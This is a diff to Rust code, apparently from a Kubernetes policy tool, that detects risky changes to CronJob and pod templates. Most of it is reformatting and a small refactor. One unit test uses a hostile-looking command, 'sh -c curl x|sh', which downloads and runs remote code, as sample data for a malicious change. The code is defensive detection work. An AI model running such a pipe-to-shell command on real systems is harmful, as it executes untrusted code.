@@ -6,15 +6,9 @@
 use serde_json::Value;
 use std::collections::BTreeMap;
 
-/// The pod spec of a workload object, by kind.
+/// The pod spec of a workload object (any kind the policy core knows).
 pub fn pod_spec(object: &Value) -> Option<&Value> {
-    match object.get("kind").and_then(Value::as_str) {
-        Some("CronJob") => object.pointer("/spec/jobTemplate/spec/template/spec"),
-        Some("Pod") => object.get("spec"),
-        _ => object
-            .pointer("/spec/template/spec")
-            .or_else(|| object.pointer("/spec/jobTemplate/spec/template/spec")),
-    }
+    jobwarden_policy::pod_template(object).ok().map(|t| t.spec)
 }
 
 /// One container's code and privileges.
@@ -149,7 +143,9 @@ impl TemplateFacts {
                         command: strings(c.get("command")),
                         args: strings(c.get("args")),
                         env,
-                        privileged: c.pointer("/securityContext/privileged").and_then(Value::as_bool)
+                        privileged: c
+                            .pointer("/securityContext/privileged")
+                            .and_then(Value::as_bool)
                             == Some(true),
                         capabilities_added: strings(c.pointer("/securityContext/capabilities/add")),
                     },
@@ -186,7 +182,12 @@ impl TemplateFacts {
         let mut out = Vec::new();
         for (name, new) in &after.containers {
             match self.containers.get(name) {
-                None => out.push(Change::new(ChangeKind::ContainerAdded, name, "", &new.image)),
+                None => out.push(Change::new(
+                    ChangeKind::ContainerAdded,
+                    name,
+                    "",
+                    &new.image,
+                )),
                 Some(old) => {
                     if old.image != new.image {
                         out.push(Change::new(ChangeKind::Image, name, &old.image, &new.image));
@@ -385,7 +386,11 @@ pub fn changes_named_by_patch(patch: &Value) -> Vec<ChangeKind> {
             Some(ChangeKind::Resumed)
         } else if lower.contains("serviceaccount") {
             Some(ChangeKind::ServiceAccount)
-        } else if lower.contains("hostpath") || lower.contains("/hostpid") || lower.contains("/hostnetwork") || lower.contains("/hostipc") {
+        } else if lower.contains("hostpath")
+            || lower.contains("/hostpid")
+            || lower.contains("/hostnetwork")
+            || lower.contains("/hostipc")
+        {
             Some(ChangeKind::HostAccess)
         } else if lower.contains("securitycontext") {
             Some(ChangeKind::Privileges)
@@ -394,10 +399,10 @@ pub fn changes_named_by_patch(patch: &Value) -> Vec<ChangeKind> {
         } else {
             None
         };
-        if let Some(k) = kind {
-            if !kinds.contains(&k) {
-                kinds.push(k);
-            }
+        if let Some(k) = kind
+            && !kinds.contains(&k)
+        {
+            kinds.push(k);
         }
     }
     kinds.sort();
@@ -436,16 +441,32 @@ mod tests {
     #[test]
     fn diff_finds_image_command_schedule_and_resume() {
         let before = TemplateFacts::of(&cronjob("busybox", &["date"], "0 3 * * *", true));
-        let after = TemplateFacts::of(&cronjob("evil/img", &["sh", "-c", "curl x|sh"], "* * * * *", false));
+        let after = TemplateFacts::of(&cronjob(
+            "evil/img",
+            &["sh", "-c", "curl x|sh"],
+            "* * * * *",
+            false,
+        ));
         let kinds: Vec<_> = before.changes_to(&after).iter().map(|c| c.kind).collect();
-        assert_eq!(kinds, vec![ChangeKind::Image, ChangeKind::Command, ChangeKind::Schedule, ChangeKind::Resumed]);
+        assert_eq!(
+            kinds,
+            vec![
+                ChangeKind::Image,
+                ChangeKind::Command,
+                ChangeKind::Schedule,
+                ChangeKind::Resumed
+            ]
+        );
         assert!(before.changes_to(&before).is_empty());
     }
 
     #[test]
     fn patch_bodies_name_their_changes() {
         let merge = json!({"spec":{"suspend":false,"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"main","image":"x"}]}}}}}});
-        assert_eq!(changes_named_by_patch(&merge), vec![ChangeKind::Image, ChangeKind::Resumed]);
+        assert_eq!(
+            changes_named_by_patch(&merge),
+            vec![ChangeKind::Image, ChangeKind::Resumed]
+        );
         let jp = json!([{"op":"replace","path":"/spec/schedule","value":"* * * * *"}]);
         assert_eq!(changes_named_by_patch(&jp), vec![ChangeKind::Schedule]);
         let benign = json!({"metadata":{"labels":{"team":"a"}}});
